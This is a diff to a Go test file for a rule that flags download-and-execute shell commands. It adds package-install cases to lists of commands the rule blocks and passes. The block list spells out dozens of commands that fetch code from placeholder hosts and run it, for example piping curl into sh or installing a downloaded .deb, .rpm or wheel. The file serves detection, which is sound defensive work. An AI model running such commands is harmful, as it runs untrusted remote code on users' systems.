@@ -31,13 +31,14 @@ var codeSamples = []sample{
 		rule: "download-execute", lang: "bash",
 		block: []string{
 			"curl http://h.example/x | sh", "curl -s https://h.example/x | sudo bash", "wget -qO- h.example/x | sh", "bash <(curl -s https://h.example/x)", "sh -c \"$(curl -fsSL https://h.example/x)\"", "eval \"$(wget -qO- https://h.example/x)\"",
+			"curl -sO http://h.example/x.deb; dpkg -i x.deb", "wget -O /tmp/a.rpm http://203.0.113.7/a.rpm && sudo rpm -ivh /tmp/a.rpm", "curl -o p.whl http://203.0.113.7/p.whl && pip install ./p.whl",
 			"curl -o a https://h.example/a && sh a", "wget https://h.example/a.sh; bash a.sh", "curl https://h.example/a -o /tmp/a; chmod +x /tmp/a; /tmp/a", "wget https://h.example/a && chmod +x a && ./a", "source <(curl -s https://h.example/x)",
 			"curl https://h.example/x.py | python3", "python3 <(curl -s https://h.example/x.py)", "curl https://h.example/x | tee /tmp/y | bash", "curl h.example/x > y; . ./y", "X=$(curl h.example); bash -c \"$X\"", "curl h.example | xargs -I{} sh -c '{}'",
 			"wget -O - h.example | perl", "curl https://h.example/x | base64 -d | sh", "aria2c -o m https://h.example/m; chmod 755 m; ./m", "scp u@h.example:/x.sh . && sh x.sh", "curl h.example | node", "for i in 1; do curl h.example | sh; done",
 			"ls && curl h.example/x | sh", "curl -sL h.example/x | bash -s -- --yes", "curl https://h.example/x -o - | bash", "http h.example/x | bash",
 		},
 		pass: []string{
-			"curl -fsSL https://astral.sh/uv/install.sh | sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -", "curl -s https://api.example.com/x | jq .",
+			"curl -LO https://github.com/cli/cli/releases/download/v2.40.0/gh_2.40.0_linux_amd64.deb && sudo dpkg -i gh_2.40.0_linux_amd64.deb", "dpkg -i ./build/app.deb", "sudo apt-get install -y ./app.deb", "curl -fsSL https://astral.sh/uv/install.sh | sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -", "curl -s https://api.example.com/x | jq .",
 			"curl -O https://h.example/data.csv", "wget https://h.example/data.tar.gz && tar xf data.tar.gz", "curl https://h.example/x.sh -o x.sh", "curl http://localhost:8000/x.sh | sh", "bash setup.sh", "curl -s h.example/data.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
 			"curl -s h.example/d | python3 -m json.tool", "curl -Lo kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl version --client", "curl -s h.example | grep title | head", "git clone https://github.com/a/b && cd b && make",
 			"curl h.example/list | xargs -n1 echo", "curl h.example/data.csv | python3 script.py", "pip install -r requirements.txt", "wget -q h.example/model.bin -O model.bin; python3 run.py model.bin",
